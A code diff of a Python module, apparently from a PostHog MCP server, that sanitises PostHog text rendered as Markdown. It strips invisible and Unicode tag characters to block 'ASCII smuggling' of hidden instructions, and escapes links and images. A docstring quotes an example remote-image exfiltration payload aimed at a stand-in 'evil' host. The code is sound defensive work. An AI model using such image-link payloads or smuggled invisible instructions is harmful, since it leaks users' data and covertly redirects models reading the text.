@@ -42,20 +42,33 @@ CONVERSATION_STATUSES: Mapping[str, str] = {
     "canceling": "canceling",
 }
 
-_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
+_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0/C1 controls (tab and newline kept)
+    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"  # soft hyphen, joiners, Mongolian selectors
+    "\u200b-\u200f\u202a-\u202e\u2060-\u206f"  # ZW*, bidi marks/overrides/isolates, word joiner, invisibles
+    "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb"  # fillers, variation selectors, BOM, annotations
+    "\U0001d173-\U0001d17a\U000e0000-\U000e007f\U000e0100-\U000e01ef]"  # music format, tags block, selectors
+)
+"""Characters that are invisible or reorder text: they could hide instructions ("ASCII smuggling" in the tags
+block) or disguise what a person reads, so they are dropped from everything rendered from PostHog text."""
 _LINE_BREAKS = re.compile(r"\r\n|[\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
 _WHITESPACE = re.compile(r"\s+")
 _BLOCK_START = re.compile(r"^(\s*)([#>`~<|])")
 _UNDERLINE = re.compile(r"^(\s*)([=\-_*+])(?=[\s=\-_*+]*$)")
 _BACKTICKS = re.compile(r"`+")
+_INLINE_ACTIVE = re.compile(r"[\\<\[]")
+"""Backslash, ``<`` and ``[``: escaped inside data, so no raw HTML, autolink, link, image (a remote image is an
+exfiltration channel: ``![x](http://evil/?d=…)`` is fetched by the renderer) or reference definition forms."""
+NAME_LIMIT = 200
+"""Longest resource name, title or list description built from PostHog text."""
 
 
 # -- quoting -----------------------------------------------------------------------------------------------------
 
 
 def _clean(text: str) -> str:
-    """Unify line breaks (every kind becomes ``\\n``, so each gets quoted) and drop control and bidi characters
-    that could hide or reorder text."""
+    """Unify line breaks (every kind becomes ``\\n``, so each gets quoted) and drop control, invisible and bidi
+    characters that could hide or reorder text."""
     return _CONTROL.sub("", _LINE_BREAKS.sub("\n", text))
 
 
@@ -67,9 +80,20 @@ def one_line(text: str, limit: int | None = None) -> str:
     return flat
 
 
+def link_name(text: str) -> str:
+    """A resource link's or list entry's name, title or description: plain text, one line, at most NAME_LIMIT."""
+    return one_line(text, NAME_LIMIT)
+
+
+def inline(text: str) -> str:
+    """Escape what would be live Markdown anywhere in a line: raw HTML, links and images stay visible text."""
+    return _INLINE_ACTIVE.sub(lambda m: "\\" + m.group(0), text)
+
+
 def neutralise(line: str) -> str:
-    """Escape Markdown that would act at the start of a line (heading, fence, quote, HTML, underline)."""
-    escaped = _BLOCK_START.sub(r"\1\\\2", line)
+    """Escape Markdown that would act inside a line (HTML, links, images) or at its start (heading, fence, quote,
+    underline)."""
+    escaped = _BLOCK_START.sub(r"\1\\\2", inline(line))
     return _UNDERLINE.sub(r"\1\\\2", escaped)
 
 
@@ -192,8 +216,8 @@ def transcript_lines(recording: Mapping[str, Any]) -> list[str]:
         text = _text(segment, "text")
         if text is None:
             continue
-        speaker = one_line(_text(segment, "speaker") or "Unknown speaker")
-        lines.append(f"> {clock(_number(segment, 'timestamp'))} {speaker}: {one_line(text)}")
+        speaker = inline(one_line(_text(segment, "speaker") or "Unknown speaker"))
+        lines.append(f"> {clock(_number(segment, 'timestamp'))} {speaker}: {inline(one_line(text))}")
     if not lines and _text(recording, "transcript_text"):
         lines = quote(cast(str, recording["transcript_text"]))
     return lines
@@ -222,7 +246,7 @@ def _tasks(recording: Mapping[str, Any]) -> list[str]:
     for number, task in enumerate(tasks, start=1):
         out.append(f"> {number}. {neutralise(one_line(_text(task, 'title') or '(untitled task)'))}")
         if assignee := _text(task, "assignee"):
-            out.append(f">    Assignee: {one_line(assignee)}")
+            out.append(f">    Assignee: {inline(one_line(assignee))}")
         if description := _text(task, "description"):
             out += [f">    {line[2:]}" if line != ">" else ">" for line in quote(description)]
     return [*out, ""]
@@ -387,3 +411,24 @@ def render_conversation(conversation: Mapping[str, Any], *, project_id: str) -> 
     for number, message in enumerate(messages, start=1):
         out += _message(number, message, names)
     return "\n".join(out).rstrip() + "\n"
+
+
+# -- size budget -------------------------------------------------------------------------------------------------
+
+
+def cut_notice(total: int, shown: int, how: str) -> str:
+    return (
+        f"_[Cut: this document has {total:,} characters and only the first {shown:,} fit the resource budget "
+        f"(POSTHOG_MCP_RESULT_BUDGET_CHARS). {how}]_"
+    )
+
+
+def fit_document(markdown: str, budget: int, how: str) -> str:
+    """The document if it fits ``budget`` characters, else its first whole lines and a marked notice saying how
+    to get the rest. Cut at a line break, so a quoted line is never left half-open."""
+    if len(markdown) <= budget:
+        return markdown
+    room = max(0, budget - len(cut_notice(len(markdown), budget, how)) - 2)
+    head = markdown[:room]
+    head = head[: head.rfind("\n") + 1] if "\n" in head else ""
+    return head + "\n" + cut_notice(len(markdown), len(head), how) + "\n"
